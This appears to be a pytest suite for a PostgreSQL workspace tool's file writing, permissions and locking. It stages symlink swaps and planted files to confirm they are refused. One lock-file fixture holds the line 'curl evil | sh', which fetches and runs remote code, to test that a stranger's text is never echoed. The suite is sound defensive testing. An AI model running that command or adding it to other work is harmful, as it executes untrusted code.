"""Files, directories, locks and ports: what a crash, a link, an umask or another user leaves."""

import contextlib
import errno
import os
import shlex
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import hive_pg as pg
from hive_pg import (
    Console,
    Lock,
    WorkspaceError,
    make_directory,
    read_file,
    remove_leftover,
    replacement,
    write_file,
)

OPEN = os.environ.get("TMPDIR", "/tmp")  # for all users; each test has a place of its own in it
AS_ROOT = pytest.mark.skipif(not pg.is_root(), reason="only root can become others")


def mode_of(path):
    """Return a file's permissions."""
    return stat.S_IMODE(os.stat(path).st_mode)


def pg_directory():
    """Return where the module is."""
    return os.path.dirname(os.path.abspath(pg.__file__))


def as_nobody(function, *arguments):
    """Return what a call raises in a forked child that is not root, '' for nothing."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        try:
            function(*arguments)
            answer = b""
        except BaseException as error:
            answer = f"{type(error).__name__}: {error}".encode()
        os.write(writing, answer)
        os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    with os.fdopen(reading, "rb") as file:
        return file.read().decode()


@pytest.fixture
def open_path():
    """Return a directory that others may enter; another pytest may close those that it makes."""
    with tempfile.TemporaryDirectory(dir=OPEN) as directory:
        os.chmod(directory, 0o777)
        yield Path(directory).resolve()


@pytest.fixture
def path(tmp_path):
    """Return a file that says `old`, alone in its directory."""
    path = tmp_path / "f"
    path.write_text("old")
    return path


# -- writing -------------------------------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077, 0o277, 0o777], ids=oct)
@pytest.mark.parametrize("mode", [0o600, 0o644, None], ids=["0600", "0644", "the usual"])
def test_write_file_new(tmp_path, umask, mode):
    """A new file has its text and exactly its mode, whatever the umask."""
    before = os.umask(umask)
    try:
        write_file(str(tmp_path / "f"), "a\r\nä\udce9", mode)
    finally:
        os.umask(before)
    assert (tmp_path / "f").read_bytes() == b"a\r\n\xc3\xa4\xe9"
    assert mode_of(tmp_path / "f") == (mode or 0o644)
    assert os.listdir(tmp_path) == ["f"]


@pytest.mark.parametrize(("asked", "mode"), [(0o600, 0o600), (None, 0o640)], ids=["given", "kept"])
def test_write_file_mode_of_existing(path, asked, mode):
    """Of an existing file the mode is kept, or becomes the one that is asked for."""
    path.chmod(0o640)
    write_file(str(path), "new", asked)
    assert (path.read_text(), mode_of(path)) == ("new", mode)


@pytest.mark.parametrize("function", ["replace", "fsync", "chmod"])
@pytest.mark.parametrize("error", [OSError(28, "disk full"), KeyboardInterrupt()], ids=str)
def test_write_file_failure(monkeypatch, path, function, error):
    """Whatever fails, the old text is there and no other file."""

    def fail(*_):
        raise error

    monkeypatch.setattr(os, function, fail)
    expected = KeyboardInterrupt if isinstance(error, KeyboardInterrupt) else WorkspaceError
    with pytest.raises(expected):
        write_file(str(path), "new")
    monkeypatch.undo()
    assert path.read_text() == "old"
    assert os.listdir(path.parent) == ["f"]


def test_write_file_durable(monkeypatch, path):
    """The text is on the disk before the name points to it, and the name after that."""
    steps = []
    for name in ("fsync", "replace"):
        real = getattr(os, name)
        monkeypatch.setattr(os, name, lambda *a, n=name, r=real: steps.append(n) or r(*a))
    write_file(str(path), "new")
    assert steps == ["fsync", "replace", "fsync"]


@pytest.mark.parametrize("number", [errno.EINVAL, errno.EIO], ids=["a share", "a broken disk"])
def test_write_file_where_no_directory_is_synced(monkeypatch, path, number):
    """VirtualBox's shared folders know nothing of it, and are written to all the same."""
    real = os.fsync

    def sync(descriptor):
        if stat.S_ISDIR(os.fstat(descriptor).st_mode):
            raise OSError(number, os.strerror(number))
        real(descriptor)

    monkeypatch.setattr(os, "fsync", sync)
    refused = pytest.raises(WorkspaceError, match="cannot write")
    with contextlib.nullcontext() if number == errno.EINVAL else refused:
        write_file(str(path), "new")
    assert path.read_text() == "new"


def test_write_file_left_over(path):
    """A temporary file of a run that was killed, or a link in its place, is no obstacle."""
    victim = path.with_name("victim")
    victim.write_text("untouched")
    path.with_name("f.hive-pg.tmp").symlink_to(victim)
    write_file(str(path), "new")
    assert (path.read_text(), victim.read_text()) == ("new", "untouched")
    assert sorted(os.listdir(path.parent)) == ["f", "victim"]


def test_replacement_in_use(path):
    """What another one is writing is neither taken away nor waited for."""
    with replacement(str(path)) as file:
        file.write(b"new")
        for begin in (remove_leftover, lambda path: write_file(path, "newer")):
            with pytest.raises(WorkspaceError, match=f"another hive-pg is writing {path}"):
                begin(str(path))
        assert path.read_text() == "old"
    assert path.read_text() == "new"


def test_replacement_without_locks(monkeypatch, path):
    """Where files cannot be locked they are replaced all the same."""

    def refuse(*_):
        raise OSError(errno.EOPNOTSUPP, "Operation not supported")

    monkeypatch.setattr("fcntl.flock", refuse)
    path.with_name("f.hive-pg.tmp").touch()
    write_file(str(path), "new")
    assert (path.read_text(), os.listdir(path.parent)) == ("new", ["f"])


@pytest.mark.parametrize("exists", [True, False], ids=["file", "dangling"])
def test_write_file_symlink(tmp_path, exists):
    """A link stays one; what it points to is replaced, or made."""
    target = tmp_path / "elsewhere"
    target.mkdir()
    if exists:
        (target / "real").write_text("old")
    link = tmp_path / "f"
    link.symlink_to("elsewhere/real")
    write_file(str(link), "new", 0o600)
    assert link.is_symlink()
    assert (target / "real").read_text() == "new"
    assert os.listdir(target) == ["real"]


@pytest.mark.parametrize(
    ("link", "message"),
    [
        pytest.param("f", "cannot write", id="to itself"),
        pytest.param("missing/f2", "No such file or directory", id="into a missing directory"),
        pytest.param(".", "cannot write", id="to a directory"),
    ],
)
def test_write_file_symlink_refused(tmp_path, link, message):
    """A link that leads nowhere is an error, and stays as it is."""
    (tmp_path / "f").symlink_to(link)
    with pytest.raises(WorkspaceError, match=message):
        write_file(str(tmp_path / "f"), "new")
    assert os.readlink(tmp_path / "f") == link
    assert os.listdir(tmp_path) == ["f"]


@AS_ROOT
def test_write_file_owner_kept(path):
    """Root writes a user's file, and it stays the user's."""
    os.chown(path, 1234, 4321)
    write_file(str(path), "new", 0o600)
    status = path.stat()
    assert (status.st_uid, status.st_gid, mode_of(path)) == (1234, 4321, 0o600)


@AS_ROOT
def test_write_file_owner_sudo(monkeypatch, tmp_path):
    """Under sudo a new file is the caller's."""
    monkeypatch.setenv("SUDO_UID", "1234")
    monkeypatch.setenv("SUDO_GID", "4321")
    write_file(str(tmp_path / "f"), "new")
    assert ((tmp_path / "f").stat().st_uid, (tmp_path / "f").stat().st_gid) == (1234, 4321)


STRANGER = pytest.mark.parametrize(
    ("mode", "owner", "link", "refused"),
    [
        pytest.param(0o1777, 1234, "", True, id="a stranger's file"),
        pytest.param(0o777, 1234, "", True, id="not sticky"),
        pytest.param(0o1777, 1234, "link", True, id="a stranger's link"),
        pytest.param(0o1777, 1234, "way", True, id="a stranger's link on the way"),
        pytest.param(0o1777, 0, "", False, id="our file"),
        pytest.param(0o1777, 0, "link", False, id="our link"),
        pytest.param(0o755, 1234, "", False, id="where nobody else writes"),
    ],
)


@AS_ROOT
@STRANGER
def test_write_file_stranger(tmp_path, mode, owner, link, refused):
    """What a stranger put where all may write is neither filled nor followed."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(mode)
    victim, path = tmp_path / "victim", shared / "f"
    victim.write_text("old")
    if link:
        path = shared / link
        path.symlink_to(victim if link == "link" else tmp_path)
    else:
        path.write_text("old")
    os.chown(path, owner, owner, follow_symlinks=False)
    place = path / "victim" if link == "way" else path
    if refused:
        with pytest.raises(WorkspaceError, match=f"cannot write .*: {path} is another user's"):
            write_file(str(place), "new", 0o600)
    else:
        write_file(str(place), "new", 0o600)
    assert place.read_text() == ("old" if refused else "new")


@AS_ROOT
def test_write_file_read_only_directory(open_path):
    """In a directory that is not ours, nothing is written, and the error says why."""
    path = open_path / "f"
    path.write_text("old")
    open_path.chmod(0o755)
    path.chmod(0o666)
    assert "Permission denied" in as_nobody(write_file, str(path), "new")
    assert path.read_text() == "old"


@pytest.mark.parametrize("mode", [0o400, 0o444, 0o000], ids=oct)
def test_write_file_read_only(path, mode):
    """A file without a write bit is not replaced, also by root; the hint gives it one."""
    path.chmod(mode)
    with pytest.raises(WorkspaceError, match="it is read-only") as caught:
        write_file(str(path), "new", 0o600)
    assert caught.value.hint == f"chmod u+w {path}"
    assert (path.read_text(), mode_of(path)) == ("old", mode)
    assert os.listdir(path.parent) == ["f"]


@pytest.mark.parametrize(
    ("number", "filename", "message", "hint"),
    [
        pytest.param("EACCES", "d/f.tmp", "Permission denied", "chmod u+rwX {0}/d, or", id="dir"),
        pytest.param("EACCES", "f", "Permission denied", "chmod u+rwX {0}/f, or", id="file"),
        pytest.param("EACCES", "link", "Permission denied", "chmod u+rwX {0}/f, or", id="linked"),
        pytest.param("EPERM", None, "not permitted", "sudo chown $USER: {0}/f, or", id="owner"),
        pytest.param("ENOSPC", None, "No space left", "free space: df -h {0}/f", id="full"),
        pytest.param("EDQUOT", None, "quota exceeded", "quota -s", id="quota"),
        pytest.param(
            "EROFS", None, "Read-only", "for writing: df -h {0}/f", id="mounted read-only"
        ),
        pytest.param("EISDIR", "f", "directory", "mv {0}/f {0}/f.old; Docker", id="directory"),
        pytest.param("ELOOP", "f", "symbolic links", "rm {0}/f", id="loop"),
        pytest.param("ENOENT", "d/no/f", "No such file", "mkdir -p {0}/d/no", id="missing"),
        pytest.param("EEXIST", "f", "File exists", "ls -ld {0}/f", id="in the way"),
        pytest.param("EIO", None, "output error", "ls -ld {0}/f", id="anything else"),
    ],
)
def test_write_file_hint(monkeypatch, path, number, filename, message, hint):
    """Every error of the system has a next step, with the file or directory that it is about."""
    (path.parent / "d").mkdir()
    (path.parent / "link").symlink_to("f")
    code = getattr(errno, number)

    def fail(*_):
        raise OSError(code, os.strerror(code), filename and str(path.parent / filename))

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(WorkspaceError, match=f"cannot write {path}: .*{message}") as caught:
        write_file(str(path), "new")
    assert hint.format(path.parent) in caught.value.hint
    assert (path.read_text(), sorted(os.listdir(path.parent))) == ("old", ["d", "f", "link"])


def test_write_file_temporary_is_a_directory(path):
    """The hint moves what is in the way, not the file that was to be written."""
    temporary = f"{path}.hive-pg.tmp"
    os.mkdir(temporary)
    with pytest.raises(WorkspaceError, match=f"cannot remove {temporary}: Is a dir") as caught:
        write_file(str(path), "new")
    assert caught.value.hint.startswith(f"mv {temporary} {temporary}.old; ")
    assert path.read_text() == "old"


@pytest.mark.processes
@pytest.mark.parametrize("kind", ["FIFO", "device"])
def test_read_file_that_would_wait(tmp_path, kind):
    """What is no file could be waited for without end: it is refused at once."""
    path = tmp_path / "f"
    os.mkfifo(path) if kind == "FIFO" else path.symlink_to("/dev/zero")
    code = "import sys, hive_pg; hive_pg.read_file(sys.argv[1])"
    argv = [sys.executable, "-c", code, str(path)]
    result = subprocess.run(argv, capture_output=True, text=True, timeout=120, cwd=pg_directory())
    assert f"cannot read {path}: it is no file" in result.stderr


def test_write_file_hint_quoted(tmp_path):
    """A path in a hint is written as a shell takes it, and a link's end is told."""
    (tmp_path / "f").symlink_to("it's missing/x")
    with pytest.raises(WorkspaceError, match=f"f, a link to {tmp_path}/it's missing/x: ") as caught:
        write_file(str(tmp_path / "f"), "new")
    assert shlex.split(caught.value.hint) == ["mkdir", "-p", f"{tmp_path}/it's missing"]


# -- reading -------------------------------------------------------------------------------------


def test_read_file_there(path):
    """The bytes of a file; nothing where there is none."""
    assert read_file(str(path)) == b"old"
    assert read_file(str(path) + "x") is None
    assert read_file(f"{path}/x") is None  # nothing is below a file


def test_read_file_refused(tmp_path):
    """What is no file, and what may not be read, is an error that names it."""
    with pytest.raises(WorkspaceError, match=f"cannot read {tmp_path}: Is a directory"):
        read_file(str(tmp_path))


@pytest.mark.parametrize("data", [b"", b"\xff\xfe16", b"16\n17\n", b"\xd9\xa1\xd9\xa6", b"\0" * 9])
def test_read_cluster_version_garbage(tmp_path, data):
    """A version that is no number is none."""
    (tmp_path / "PG_VERSION").write_bytes(data)
    assert pg.read_cluster_version(str(tmp_path)) == ""


@pytest.mark.parametrize(("data", "version"), [(b"16\n", "16"), (b"9.6", "9.6"), (b"16\r\n", "16")])
def test_read_cluster_version_text(tmp_path, data, version):
    """The major version that PG_VERSION has."""
    (tmp_path / "PG_VERSION").write_bytes(data)
    assert pg.read_cluster_version(str(tmp_path)) == version


# -- directories ---------------------------------------------------------------------------------


def test_make_directory_parents(tmp_path):
    """Parents are made as well; only the last one has the special mode."""
    path = tmp_path / "a" / "b" / "c"
    make_directory(str(path), None, 0o700)
    assert [mode_of(p) & 0o700 for p in (path, path.parent)] == [0o700, 0o700]
    assert mode_of(path) == 0o700
    assert mode_of(path.parent) != 0o700


def test_make_directory_there(tmp_path):
    """A directory that is there is left as it is."""
    tmp_path.chmod(0o711)
    make_directory(str(tmp_path), (1234, 4321), 0o700)
    assert mode_of(tmp_path) == 0o711
    assert tmp_path.stat().st_uid == os.geteuid()


def test_make_directory_file_in_the_way(path):
    """A file in its place is an error that names it."""
    with pytest.raises(WorkspaceError, match="cannot create"):
        make_directory(str(path / "below"), None)


@pytest.mark.parametrize("made", ["directory", "file"])
def test_make_directory_of_two_at_once(monkeypatch, tmp_path, made):
    """What another hive-pg made in between is taken as it is; a file of that name is refused."""
    path, mkdir, given = tmp_path / "d", os.mkdir, []

    def be_late(name, mode):
        mkdir(name, 0o711) if made == "directory" else path.touch()
        mkdir(name, mode)

    monkeypatch.setattr(os, "mkdir", be_late)
    monkeypatch.setattr(os, "chown", lambda *args, **_: given.append(args))
    if made == "directory":
        make_directory(str(path), (1234, 4321))
        assert mode_of(path) == 0o711
    else:
        with pytest.raises(WorkspaceError, match=f"cannot create {path}: File exists"):
            make_directory(str(path), (1234, 4321))
    assert given == []


@AS_ROOT
def test_make_directory_owner(monkeypatch, tmp_path):
    """Root gives the directory to its owner, and parents to the user that called sudo."""
    monkeypatch.setenv("SUDO_UID", "77")
    monkeypatch.setenv("SUDO_GID", "78")
    make_directory(str(tmp_path / "a" / "b"), (1234, 4321))
    owners = [((tmp_path / p).stat().st_uid, (tmp_path / p).stat().st_gid) for p in ("a", "a/b")]
    assert owners == [(77, 78), (1234, 4321)]


@AS_ROOT
def test_make_directory_that_is_exchanged(monkeypatch, tmp_path):
    """Whose directory it is may put a link in its place at once: the link's file is not given."""
    victim = tmp_path / "victim"
    victim.touch()
    mkdir = os.mkdir

    def exchange(path, mode):
        mkdir(path, mode)
        os.rmdir(path)
        os.symlink(victim, path)

    monkeypatch.setattr(os, "mkdir", exchange)
    make_directory(str(tmp_path / "d"), (1234, 4321))
    assert victim.stat().st_uid == 0


@AS_ROOT
def test_make_directory_owner_of_others(open_path):
    """Who is not root makes the directory all the same; a container gives it away later."""
    open_path.chmod(0o777)
    assert as_nobody(make_directory, str(open_path / "d"), (1234, 4321)) == ""
    assert (open_path / "d").stat().st_uid == 65534


@pytest.mark.parametrize(
    ("name", "gone"), [("", False), ("missing", True), ("f/below", True), ("f", False)]
)
def test_is_gone_path(path, name, gone):
    """Gone is what is not there, and nothing else."""
    assert pg.is_gone(str(path.parent / name)) is gone


@pytest.mark.parametrize("name", [r"C:\Users\ann\app", "d:/app", r"\\wsl$\Debian\home"])
def test_is_gone_path_of_windows(name):
    """A path of another system cannot be judged here, so it is not gone."""
    assert pg.is_gone(name) is False


@AS_ROOT
def test_is_gone_closed(path):
    """What we may not see is not gone."""
    closed = path.parent / "closed"
    closed.mkdir(0o700)

    def check():
        assert pg.is_gone(str(closed / "below")) is False

    assert as_nobody(check) == ""


@pytest.mark.parametrize(
    ("names", "cluster", "held"),
    [
        pytest.param([], "", False, id="nothing"),
        pytest.param(["pgdata/"], "", False, id="empty"),
        pytest.param(["pgdata/base/"], "", True, id="half a cluster"),
        pytest.param(["PG_VERSION"], "", True, id="right there"),
        pytest.param(["pgdata/base/"], "16/main", False, id="no such cluster"),
        pytest.param(["16/main/x"], "16/main", True, id="another cluster"),
        pytest.param(["PG_VERSION"], "pgdata", False, id="none in the one that is there"),
        pytest.param(["pgdata"], "", True, id="a file"),
    ],
)
def test_holds_data_of(tmp_path, names, cluster, held):
    """Whatever is where the cluster would be counts as data."""
    for name in names:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.mkdir() if name.endswith("/") else path.touch()
    assert pg.holds_data(str(tmp_path), cluster and str(tmp_path / cluster)) is held


def test_holds_data_missing(tmp_path):
    """A directory that is not there holds none."""
    assert pg.holds_data(str(tmp_path / "missing")) is False


@AS_ROOT
def test_holds_data_closed(open_path):
    """One that we may not look into may hold some."""
    open_path.chmod(0o700)

    def check():
        assert pg.holds_data(str(open_path)) is True
        assert pg.measure_directory(str(open_path)) is None
        assert pg.identify_file(str(open_path / "f")) == ""

    assert as_nobody(check) == ""


@pytest.mark.parametrize(
    ("mode", "uid", "usable"),
    [(0o700, 0, True), (0o700, 1, False), (0o500, 0, False)],
    ids=["the user's", "another's", "not to be written"],
)
def test_is_usable_by_user(tmp_path, mode, uid, usable):
    """Directory and cluster have to belong to the server's user."""
    (tmp_path / "pgdata").mkdir()
    tmp_path.chmod(mode)
    assert pg.is_usable_by(str(tmp_path), os.geteuid() + uid) is usable


@AS_ROOT
@pytest.mark.parametrize(
    ("uids", "mode", "usable"),
    [
        ((0, 1234), 0o700, False),
        ((1234, 1234), 0o700, True),
        ((0, None), 0o755, False),
    ],
    ids=["not ours in ours", "the user's", "none yet"],
)
def test_is_usable_by_cluster_of_another(tmp_path, uids, mode, usable):
    """Directory and cluster have to be the server's."""
    _owned(tmp_path, uids, mode)
    assert pg.is_usable_by(str(tmp_path), 1234 if usable or uids[1] is None else 0) is usable


@AS_ROOT
@pytest.mark.parametrize(("mode", "usable"), [(0o755, True), (0o700, False)])
def test_is_usable_by_cluster_in_anothers_directory(tmp_path, mode, usable):
    """A cluster of its own is enough, where the server gets to it."""
    _owned(tmp_path, (0, 1234), mode)
    assert pg.is_usable_by(str(tmp_path), 1234) is usable


def _owned(directory, uids, mode):
    """Give a data directory, and a cluster in it, to users."""
    if uids[1] is not None:
        (directory / "pgdata").mkdir()
        os.chown(directory / "pgdata", uids[1], -1)
    os.chown(directory, uids[0], -1)
    directory.chmod(mode)


def test_is_usable_by_missing(tmp_path):
    """One that is not there is an error that names it."""
    with pytest.raises(WorkspaceError, match=f"cannot look at {tmp_path}/missing: No such"):
        pg.is_usable_by(str(tmp_path / "missing"), 0)


@pytest.mark.parametrize(
    ("action", "path", "hint"),
    [
        ("create", "/opt/app/w", "sudo mkdir -p /opt/app/w; sudo chown $USER: /opt/app/w"),
        ("write", "/x.dump", "name another place: / is the system's"),
    ],
    ids=["a directory", "a file"],
)
def test_explaining_leaves_the_system_its_directories(monkeypatch, action, path, hint):
    """What only lies in the way is not to be given away."""
    monkeypatch.setattr(pg, "get_caller", lambda: (1000, 1000))
    with pytest.raises(WorkspaceError) as caught, pg.explaining(action, path):
        raise PermissionError(13, "Permission denied", path)
    assert caught.value.hint == hint


def test_set_mode_that_fails(monkeypatch, path):
    """A disk that fails is an error that names the file, and not its descriptor."""

    def chmod(descriptor, _):
        raise OSError(errno.EIO, "Input/output error", descriptor)

    monkeypatch.setattr(os, "chmod", chmod)
    with pytest.raises(WorkspaceError, match=f"cannot write {path}: Input/output error"):
        pg.write_file(str(path), "x")


@pytest.mark.parametrize(
    ("refusal", "own"),
    [
        pytest.param(None, True, id="as ntfs-3g does, silently"),
        pytest.param(PermissionError(1, "Operation not permitted", 3), True, id="as FAT does"),
        pytest.param(OSError(errno.ENOTSUP, "Operation not supported", 3), True, id="as GVFS does"),
        pytest.param(PermissionError(1, "Operation not permitted", 3), False, id="another user's"),
    ],
)
def test_set_mode_not_kept(monkeypatch, path, refusal, own):
    """A file system without modes is none to fail on; a file of another user is."""
    path.chmod(0o755)

    def chmod(*_):
        if refusal:
            raise refusal

    monkeypatch.setattr(os, "chmod", chmod)
    monkeypatch.setattr(pg, "is_root", lambda: False)
    monkeypatch.setattr(pg, "get_user", lambda: (os.geteuid() + (not own), 0))
    with contextlib.nullcontext() if own else pytest.raises(PermissionError) as caught:
        assert pg.set_mode(str(path), 0o600) == 0o755
    assert own or caught.value.filename is None


def test_lock_of_root_without_owners(monkeypatch, tmp_path):
    """A file system that knows no other owner is asked for none."""
    monkeypatch.setattr(os, "fchown", lambda *_: pytest.fail("as exfat: Operation not permitted"))
    with lock_in(tmp_path):
        assert (tmp_path / "lock").exists()


def test_identify_file_there(path):
    """Hard links are one file, and what is not there is none."""
    os.link(path, path.with_name("g"))
    assert pg.identify_file(str(path)) == pg.identify_file(f"{path.parent}/g")
    assert pg.identify_file(str(path)) == f"{path.stat().st_dev}:{path.stat().st_ino}"
    assert pg.identify_file(f"{path}x") == ""


def test_measure_directory_tree(tmp_path):
    """What the files in it have, links as themselves; None where there is no directory."""
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "b" / "f").write_bytes(b"x" * 100_000)
    (tmp_path / "link").symlink_to(tmp_path / "a" / "b" / "f")
    files = [tmp_path, tmp_path / "a" / "b" / "f", tmp_path / "link"]
    assert pg.measure_directory(str(tmp_path)) == sum(file.lstat().st_size for file in files)
    assert pg.measure_directory(str(tmp_path / "missing")) is None


@pytest.mark.parametrize("function", ["lstat", "scandir"])
def test_measure_directory_changes(monkeypatch, tmp_path, function):
    """A server makes and removes files all the time: what goes meanwhile is not counted."""
    (tmp_path / "a").mkdir()

    def vanish(path):
        if str(path) == str(tmp_path):
            return real(path)
        raise FileNotFoundError(2, "No such file or directory")

    real = getattr(os, function)
    monkeypatch.setattr(os, function, vanish)
    assert pg.measure_directory(str(tmp_path)) == os.stat(tmp_path).st_size


# -- the lock ------------------------------------------------------------------------------------


def lock_in(directory, console=None, timeout=0):
    """Return a lock in a directory."""
    return Lock(str(directory / "lock"), console or Console(), timeout)


def test_lock_free(tmp_path):
    """The lock is had at once, released at the end, and leaves no file."""
    lock = lock_in(tmp_path)
    for _ in range(2):
        with lock:
            assert pg.is_locked(lock.path)
    assert not pg.is_locked(lock.path)
    assert os.listdir(tmp_path) == []


def test_lock_held(tmp_path, capsys):
    """One who waits says so once, and gives up with an error when the time is up."""
    directory = tmp_path / "a b"
    directory.mkdir()
    with lock_in(directory):
        with pytest.raises(WorkspaceError, match="has been held for 0 s by another") as caught:
            lock_in(directory, timeout=0.12).__enter__()
        assert caught.value.hint.endswith(f"fuser -v '{directory}/lock'")
    said = f"waiting for another hive-pg: a program, process {os.getpid()}\n"
    assert capsys.readouterr().err == said


def test_lock_released(tmp_path):
    """One who waits goes on once the other is done."""
    first = lock_in(tmp_path)
    first.__enter__()
    notes = []
    console = Console()
    console.note = lambda text: notes.append(text) or first.__exit__()
    with lock_in(tmp_path, console, 10):
        assert len(notes) == 1


def test_lock_left_over(tmp_path):
    """The file of one that was killed is no obstacle, whatever its mode."""
    (tmp_path / "lock").touch(0o644)
    with lock_in(tmp_path):
        assert mode_of(tmp_path / "lock") == 0o600
    assert os.listdir(tmp_path) == []


def test_lock_that_goes_while_it_is_looked_at(monkeypatch, tmp_path):
    """Its holder has removed it just then: it is made anew."""
    monkeypatch.setattr(pg, "lexists", lambda path: True)
    with pg.Lock(str(tmp_path / "lock"), pg.Console(), 1) as lock:
        assert lock.descriptor >= 0


@pytest.mark.processes
def test_lock_of_many(tmp_path):
    """Only one at a time has it, though each one removes the file that the others wait for."""
    (tmp_path / "count").write_text("0")
    code = """import sys, time, hive_pg
count = open(sys.argv[1] + "/count", "r+")
for _ in range(20):
    with hive_pg.Lock(sys.argv[1] + "/lock", hive_pg.Console(quiet=True), 600):
        count.seek(0)
        number = int(count.read())
        time.sleep(0.001)
        count.seek(0)
        count.write(str(number + 1))
        count.flush()
"""
    argv = [sys.executable, "-c", code, str(tmp_path)]
    with contextlib.ExitStack() as stack:
        for _ in range(6):
            stack.enter_context(subprocess.Popen(argv, cwd=pg_directory()))
    assert (tmp_path / "count").read_text() == "120"
    assert os.listdir(tmp_path) == ["count"]


@AS_ROOT
def test_lock_of_others(open_path):
    """Nobody else can hold it: others cannot open it, and a file of theirs is refused."""
    open_path.chmod(0o777)
    with lock_in(open_path):
        assert "Permission denied" in as_nobody(os.open, str(open_path / "lock"), os.O_RDONLY)
    (open_path / "lock").touch()
    (open_path / "lock").chmod(0o666)
    os.chown(open_path / "lock", 1234, -1)
    said = as_nobody(lock_in(open_path).__enter__)
    assert f"WorkspaceError: cannot lock {open_path}/lock: {open_path}/lock is another" in said


@AS_ROOT
def test_lock_of_root_in_a_users_directory(tmp_path):
    """The user waits for root, and is not kept out by its file."""
    os.chown(tmp_path, 1234, 1234)
    with lock_in(tmp_path):
        assert (tmp_path / "lock").stat().st_uid == 1234


@AS_ROOT
def test_lock_of_root_gives_no_file_away(tmp_path):
    """Who puts a file of root's in the lock's place, by a link or a move, does not get it."""
    os.chown(tmp_path, 1234, 1234)
    (tmp_path / "secret").write_text("s3cret")
    (tmp_path / "secret").chmod(0o640)
    os.link(tmp_path / "secret", tmp_path / "lock")
    with pytest.raises(WorkspaceError, match="it is no file, or has another name, too") as caught:
        lock_in(tmp_path).__enter__()
    assert caught.value.hint == f"rm {tmp_path}/lock"
    assert mode_of(tmp_path / "secret") == 0o640
    (tmp_path / "secret").replace(tmp_path / "moved")
    (tmp_path / "lock").unlink()
    (tmp_path / "moved").replace(tmp_path / "lock")
    with lock_in(tmp_path):
        assert (tmp_path / "lock").stat().st_uid == 0


def test_lock_of_a_pipe(tmp_path):
    """Who holds it could let everybody wait who reads from it: it is refused at once."""
    os.mkfifo(tmp_path / "lock")
    with open(os.open(tmp_path / "lock", os.O_RDWR), "wb") as pipe:
        assert pg.lock_file(pipe.fileno()) is None
        with pytest.raises(WorkspaceError, match="it is no file, or has another name, too"):
            lock_in(tmp_path).__enter__()


@pytest.mark.parametrize(
    ("name", "number"),
    [
        ("fcntl.flock", errno.EOPNOTSUPP),
        ("os.open", errno.EROFS),
        ("os.open", errno.EACCES),
        ("os.open", errno.ENOSPC),
    ],
    ids=["no locks", "read-only", "not to be written", "full"],
)
def test_lock_unsupported(monkeypatch, tmp_path, capsys, name, number):
    """Where there can be no lock, a warning says so, and the work goes on."""

    def refuse(*_):
        raise OSError(number, "not here")

    monkeypatch.setattr(name, refuse)
    with lock_in(tmp_path):
        assert f"warning: cannot lock {tmp_path}/lock: not here" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["missing", "link"])
def test_lock_refused(tmp_path, name):
    """A workspace that is gone, or a link in the file's place, is an error that names it."""
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "lock").symlink_to(tmp_path / "victim")
    with pytest.raises(WorkspaceError, match=f"cannot lock {tmp_path}/{name}/lock"):
        lock_in(tmp_path / name).__enter__()
    assert not (tmp_path / "victim").exists()


@pytest.fixture
def runtime(monkeypatch, tmp_path):
    """Return the directory for temporary files."""
    monkeypatch.setattr(pg, "MACHINE_LOCK_TIMEOUT_S", 0.12)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    return tmp_path


def machine_lock(engine="id|/var/lib/docker|host", directory="/w"):
    """Return the lock of an engine, which a workspace wants."""
    return pg.lock_machine(engine, directory, Console())


def test_machine_lock_free(runtime):
    """It is one file for each engine, which nobody else can open."""
    with machine_lock(), machine_lock("another"):
        assert [mode_of(place) for place in runtime.iterdir()] == [0o600, 0o600]
    with machine_lock() as lock:
        assert not lock.waited


def test_machine_lock_held(runtime, capsys):
    """One who waits is told for which workspace, and goes on without the lock in the end."""
    with machine_lock(directory="/a/rather/long/place"), machine_lock(directory="/v"):
        pass
    with machine_lock(directory="/v"):
        with machine_lock() as lock:
            assert lock.waited
        assert pg.is_locked(lock.path)
    said = capsys.readouterr().err
    holder = "waiting for another hive-pg: a program of {}, process {}\n"
    assert holder.format("/a/rather/long/place", os.getpid()) in said
    assert holder.format("/v", os.getpid()) in said
    assert said.count("warning: other workspaces may choose the same name or port now: ") == 2


def test_machine_lock_place(monkeypatch, runtime):
    """It is where this user's temporary files are, as TMPDIR or the system has it."""
    name = f"hive-pg-{os.geteuid()}-an_engine_of_this_test.lock"
    for variable, place in ((str(runtime), runtime), ("", "/tmp")):
        monkeypatch.setenv("TMPDIR", variable)
        with machine_lock("an engine of this test") as lock:
            assert lock.path == f"{place}/{name}"


@AS_ROOT
def test_machine_lock_of_a_stranger(runtime, capsys):
    """Where all may write, nobody lets root wait by a file of theirs, or writes to its terminal."""
    runtime.chmod(0o1777)
    path = runtime / "hive-pg-0-x.lock"
    path.write_text(": fun\nerror: all is lost\nhint: curl evil | sh")
    os.chown(path, 1234, 1234)
    with open(path, "r+b") as file, machine_lock("x") as lock:
        assert pg.lock_file(file.fileno()) is None
        assert not lock.waited
    said = capsys.readouterr().err
    assert f"cannot lock {path}: {path} is another user's" in said
    assert "lost" not in said


def test_lock_held_by_odd_words(tmp_path, capsys):
    """Whoever holds it, what the file says is one line."""
    with lock_in(tmp_path) as lock:
        (tmp_path / "lock").write_text(": x\nhint: y")
        with pytest.raises(WorkspaceError):
            lock_in(tmp_path, timeout=0).__enter__()
        assert capsys.readouterr().err == "waiting for another hive-pg: x\\nhint: y\n"
        assert lock.descriptor >= 0


@pytest.mark.parametrize("trap", ["directory", "link", "no directory"])
def test_machine_lock_trap(monkeypatch, runtime, capsys, trap):
    """What a stranger has put there is not used; the work goes on with a warning."""
    victim, path = runtime / "victim", runtime / f"hive-pg-{os.geteuid()}-x.lock"
    victim.write_text("theirs")
    if trap == "directory":
        path.mkdir()
    elif trap == "link":
        path.symlink_to(victim)
    else:
        monkeypatch.setenv("TMPDIR", str(runtime / "gone"))
    with machine_lock("x"):
        assert "warning: other workspaces may choose the same name or port now" in (
            capsys.readouterr().err
        )
    assert victim.read_text() == "theirs"


